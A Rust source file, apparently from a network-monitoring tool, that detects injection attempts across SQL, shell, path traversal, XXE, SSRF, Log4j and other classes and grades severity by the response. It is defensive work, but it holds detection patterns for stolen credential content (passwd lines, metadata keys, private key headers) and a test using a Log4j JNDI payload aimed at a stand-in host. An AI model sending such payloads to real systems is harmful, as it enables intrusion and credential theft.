//! # `injection_attempt`: a value that is code to the one who reads it
//!
//! Reports, once per caller, class, endpoint and day, parameters that leave their place in the language they are put into: SQL,
//! commands of a shell, paths that climb out, lines of a log or of a head, templates, scripts in pages, external entities of XML, addresses that
//! only the server can reach, lookups of Log4j, filters of LDAP and of document databases, objects that run something when they
//! are read. Looked at are path, query, cookies, fields of the head, forms, JSON, XML, names of files and arguments of tools, below
//! the codings that servers and programs take off. Class, place and the parameter's name are told; the value is not.
//!
//! Medium while nothing shows that it worked. High when the answer holds an error of a database behind SQL, comes after the wait that
//! was asked for, holds the product that was asked for, or gives the markup back in a page as it was sent. Critical when it
//! holds what such an attack is after: the accounts of a machine, the output of `id`, keys of a metadata service.
//!
//! Source: CWE-74 and those below it; OWASP API7:2023, API8:2023; ATT&CK T1190.
//!
//! Blind to: attacks in several requests of which each is harmless; values in a language of their own (a query that is sent whole,
//! where the field is made for it); what stands behind a sentence of prose, which is taken for an example; bodies of language
//! models, see [`prompt_injection_indicator`](#prompt_injection_indicator); bodies past the first 64 KiB.
//!
//! Quiet when: signs of these languages stand where they do nothing: names with apostrophes, formulas, regular expressions, templates
//! with names in them, markup of editors, source code in fields for it, documents that quote an attack.

use std::cell::Cell;

use memchr::memmem;
use serde_json::json;

use super::attack::{self, Attack, Class, Effect, filter};
use super::decode::Forms;
use super::inputs::{self, Body, Input, Place};
use crate::behaviour::{Activity, World};
use crate::finding::ledger::{Draft, Ledger, Subject, day};
use crate::finding::words::{many, sentence};
use crate::finding::{Finding, Kind, Severity};
use crate::id::Seed;
use crate::privacy::safe_name;

/// Attacks of one exchange that are told, of a class each.
const TOLD: usize = 4;

/// Bytes of an answer in which an effect is looked for.
const ANSWER: usize = 64 * 1024;

/// An attack, and where it was.
struct Found {
    attack: Attack,
    place: Place,
    name: Vec<u8>,
}

/// Fields of heads and cookies that were looked at and are no attacks, by keyed hash: nearly all are the same in many requests. It
/// remembers and decides nothing: the same with it and without.
#[derive(Debug)]
pub(crate) struct Harmless(Box<[Cell<u64>]>);

impl Default for Harmless {
    fn default() -> Self {
        Self(vec![Cell::new(0); Self::ROOM].into())
    }
}

impl Harmless {
    const ROOM: usize = 4096;

    /// The place of an input, and what stands there when it is known; nothing for inputs that hardly ever come again.
    fn of(&self, input: &Input<'_>, seed: Seed) -> Option<(&Cell<u64>, u64)> {
        // Looking closer takes no longer than remembering where a value is short.
        let shortest = match input.place {
            Place::Field | Place::Cookie => 8,
            Place::OtherField => 24,
            _ => return None,
        };
        if input.value.len() < shortest {
            return None;
        }
        let name = seed.hash(input.name).rotate_left(input.place as u32 + 7);
        let hash = (seed.hash(input.value) ^ name) | 1;
        Some((self.0.get((hash >> 8) as usize % Self::ROOM)?, hash))
    }
}

/// Looks at one exchange.
pub(crate) fn observe(activity: &Activity<'_>, harmless: &Harmless, world: &World<'_>, ledger: &mut Ledger) {
    let body = match activity.call {
        // What people and programs write to a model is for it to read.
        _ if activity.llm.is_some() => Body::None,
        Some(call) if call.protocol == "mcp" => Body::Tools,
        _ => Body::All,
    };
    for found in find(activity.request, body, Some((harmless, world.seed))) {
        report(activity, &found, world, ledger);
    }
}

/// The attacks in a request, the first of each class.
fn find(request: &reassembly::Request, body: Body, harmless: Option<(&Harmless, Seed)>) -> Vec<Found> {
    let mut all: Vec<Found> = Vec::new();
    let mut forms = Forms::default();
    let mut add = |attack: Attack, place: Place, name: &[u8]| {
        if all.len() < TOLD && !all.iter().any(|f| f.attack.class == attack.class) {
            all.push(Found {
                attack,
                place,
                name: name.to_vec(),
            });
        }
    };
    inputs::each(request, body, &mut |input: Input<'_>| {
        let known = harmless.and_then(|(all, seed)| all.of(&input, seed));
        if known.is_some_and(|(place, hash)| place.get() == hash) {
            return;
        }
        match attack::look(&input, &mut forms) {
            Some(attack) => add(attack, input.place, input.name),
            None => known.into_iter().for_each(|(place, hash)| place.set(hash)),
        }
    });
    inputs::operators(request, body, &mut |owner, operator, value, place| {
        if filter::operator(owner, operator, value) {
            add(Attack::new(Class::Nosql, "operator"), place, owner);
        }
    });
    all
}

fn report(activity: &Activity<'_>, found: &Found, world: &World<'_>, ledger: &mut Ledger) {
    let class = found.attack.class;
    let effect = effect(activity, &found.attack);
    let severity = match effect {
        None => Severity::Medium,
        Some("content") => Severity::Critical,
        Some(_) => Severity::High,
    };
    let resource = activity.resource();
    let template = resource.template.clone().unwrap_or_default();
    let host = activity.host_name();
    let parts: [&[u8]; 4] = [
        activity.identity.text.as_bytes(),
        host.as_bytes(),
        template.as_bytes(),
        class.name().as_bytes(),
    ];
    let subject = Subject {
        kind: Kind::InjectionAttempt,
        parts: &parts,
        window: day(activity.ts),
    };
    let draft = || {
        let name = String::from_utf8_lossy(&found.name);
        let parameter = (!name.is_empty()).then(|| safe_name(&world.settings.hash_key, &name));
        Draft {
            confidence: if effect.is_some() { 0.97 } else { 0.9 },
            principal: true,
            resource,
            observed: vec![
                ("class", json!(class.name())),
                ("form", json!(found.attack.form)),
                ("place", json!(found.place.name())),
                ("parameter", json!(parameter)),
                ("effect", json!(effect)),
                ("status", json!(activity.status)),
            ],
            expected: vec![("attempts", json!(0))],
            ..Draft::default()
        }
    };
    ledger.report(subject, severity, activity, draft, |running| {
        running.support("exchanges", running.seen());
    });
}

/// What in the answer shows that it worked.
fn effect(activity: &Activity<'_>, attack: &Attack) -> Option<&'static str> {
    let response = activity.exchange.response.as_ref()?;
    let body = &response.message.body[..response.message.body.len().min(ANSWER)];
    if matches!(
        attack.class,
        Class::Traversal
            | Class::Command
            | Class::Xxe
            | Class::Template
            | Class::Ssrf
            | Class::Deserialisation
    ) && is_content(body)
    {
        return Some("content");
    }
    if attack.class == Class::Sql && is_database_error(body) {
        return Some("database_error");
    }
    match &attack.effect {
        Effect::Usual => None,
        Effect::Delay(seconds) => {
            let waited = response
                .message
                .first
                .since(activity.request.message.last)
                .as_secs_f64();
            (waited >= *seconds as f64 * 0.95 && waited < *seconds as f64 * 4.0 + 5.0).then_some("delay")
        }
        Effect::Product(product) => {
            // Small ones come up by themselves; in a page of any length they say nothing.
            let digits = product.to_string();
            let asked = memmem::find(activity.request.target().as_bytes(), digits.as_bytes()).is_some();
            let alone = memmem::find_iter(body, digits.as_bytes()).any(|at| {
                let digit = |b: Option<&u8>| b.is_some_and(|b| b.is_ascii_alphanumeric() || *b == b'.');
                !digit(at.checked_sub(1).and_then(|b| body.get(b))) && !digit(body.get(at + digits.len()))
            });
            (alone && !asked && (digits.len() >= 4 || body.len() < 512)).then_some("product")
        }
        Effect::Echo(markup) => {
            let kind = response.message.field("content-type").unwrap_or("");
            let page = kind.get(..9).is_some_and(|k| k.eq_ignore_ascii_case("text/html"));
            (page && markup.len() >= 8 && memmem::find(body, markup).is_some()).then_some("echo")
        }
    }
}

/// Whether an answer holds what attackers are after.
fn is_content(body: &[u8]) -> bool {
    let has = |what: &[u8]| memmem::find(body, what).is_some();
    // passwd(5); `uid=0(root) gid=0(root)`; win.ini; Instance Metadata Service.
    has(b"root:x:0:0:")
        || has(b"root:*:0:0:")
        || has(b"; for 16-bit app support")
        || has(b"[boot loader]")
        || has(b"\"AccessKeyId\"") && has(b"\"SecretAccessKey\"")
        || has(b"-----BEGIN OPENSSH PRIVATE KEY-----")
        || memmem::find_iter(body, b"uid=").take(8).any(|at| {
            let rest = &body[at + 4..body.len().min(at + 120)];
            let digits = rest.iter().take_while(|b| b.is_ascii_digit()).count();
            digits > 0 && rest.get(digits) == Some(&b'(') && memmem::find(rest, b") gid=").is_some()
        })
}

/// Whether an answer holds an error of a database.
fn is_database_error(body: &[u8]) -> bool {
    const ERRORS: [&[u8]; 18] = [
        b"You have an error in your SQL syntax",
        b"Unclosed quotation mark",
        b"SQLSTATE[",
        b"sqlite3.OperationalError",
        b"SQLITE_ERROR",
        b"psycopg2.errors",
        b"PG::SyntaxError",
        b"unterminated quoted string",
        b"quoted string not properly terminated",
        b"ODBC SQL Server Driver",
        b"com.mysql.jdbc",
        b"java.sql.SQLException",
        b"java.sql.SQLSyntaxErrorException",
        b"org.postgresql.util.PSQLException",
        b"System.Data.SqlClient",
        b"mysql_fetch",
        b"syntax error at or near",
        b"sqlalchemy.exc.",
    ];
    if ERRORS.iter().any(|error| memmem::find(body, error).is_some()) {
        return true;
    }
    // ORA-00933, and `near "x": syntax error` of SQLite.
    memmem::find_iter(body, b"ORA-").take(8).any(|at| {
        body[at + 4..]
            .iter()
            .take(5)
            .filter(|b| b.is_ascii_digit())
            .count()
            == 5
    }) || memmem::find(body, b": syntax error").is_some() && memmem::find(body, b"near ").is_some()
}

/// The finding in words.
pub(crate) fn explain(finding: &Finding) -> String {
    let what = match finding.observed_text("class") {
        "sql_injection" => "SQL",
        "command_injection" => "a command",
        "path_traversal" => "a path out of its folder",
        "log_injection" => "a line of a log or a head",
        "template_injection" => "an expression of a template",
        "script_injection" => "a script for the page",
        "xml_external_entity" => "an external entity of XML",
        "ssrf" => "an address that only the server can reach",
        "jndi_lookup" => "a lookup of Log4j",
        "ldap_injection" => "a filter of LDAP",
        "nosql_injection" => "a query of a document database",
        _ => "an object that runs something when it is read",
    };
    let place = match finding.observed_text("place") {
        "path" => "the path",
        "query" => "the query",
        "header" => "a field of the head",
        "cookie" => "a cookie",
        "form" => "a form",
        "file_name" => "the name of a file",
        "json" => "a body of JSON",
        "tool_argument" => "an argument of a tool",
        _ => "a document of XML",
    };
    let parameter = match finding.observed_text("parameter") {
        "" => String::new(),
        name => format!(" (`{name}`)"),
    };
    let outcome = match finding.observed_text("effect") {
        "content" => "the answer holds what such an attack is after",
        "database_error" => "the answer holds an error of the database",
        "delay" => "the answer came after the wait that was asked for",
        "product" => "the answer holds the result that was asked for",
        "echo" => "the page gives it back as it was sent",
        _ => "nothing in the answer shows that it worked",
    };
    sentence(&format!(
        "{} sent {what} in {place}{parameter} to {}; the server {} and {outcome}. {} so far that day.",
        finding.who(),
        finding.place(),
        finding.answer(),
        many(finding.count, "such call", "such calls"),
    ))
}

/// The classes of attacks in a request.
#[cfg(test)]
pub(crate) fn classes(request: &reassembly::Request, body: Body) -> Vec<Class> {
    find(request, body, None).iter().map(|f| f.attack.class).collect()
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::testing::{Call, START};

    #[test]
    fn what_is_remembered_of_harmless_fields_changes_nothing() {
        let (harmless, seed) = (Harmless::default(), Seed::new(&[7; 32]));
        let all = [
            ("User-Agent: Mozilla/5.0 (X11; Linux x86_64) Gecko/20100101", 0),
            ("Accept-Language: en-US,en;q=0.9", 0),
            ("X-Note: ${jndi:ldap://a.example/x}", 1),
            ("Referer: ${jndi:ldap://a.example/x}", 1),
            ("X-Note: en-US,en;q=0.9", 0),
            ("Cookie: theme=dark; note=en-US,en", 0),
        ];
        for (field, attacks) in all.iter().chain(&all) {
            let exchange = Call::get("/x").field(field).exchange(START * 1_000_000_000, 1);
            let request = exchange.request.unwrap();
            let found = find(&request, Body::All, Some((&harmless, seed)));
            assert_eq!(found.len(), *attacks, "{field}");
        }
        assert!(harmless.0.iter().any(|place| place.get() != 0));
    }
}
